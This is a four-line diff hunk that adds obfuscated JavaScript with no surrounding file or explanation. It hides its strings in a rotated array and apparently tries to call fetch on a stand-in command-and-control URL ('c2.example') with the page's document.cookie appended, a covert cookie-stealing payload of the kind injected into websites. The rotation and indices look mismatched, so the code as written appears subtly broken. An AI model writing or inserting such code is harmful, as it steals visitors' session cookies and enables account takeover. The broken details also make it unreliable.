@@ -1,0 +1,4 @@
+(function (a, n) { while (--n) a.push(a.shift()); })(_0x1 = ['log', 'fetch', 'cookie', 'https://c2.example/x'], 0x1a3);
+var _0x1;
+function _0x2(i) { i = i - 0x0; return _0x1[i]; }
+window[_0x2('0x0')](_0x2('0x2') + document[_0x2('0x1')]);
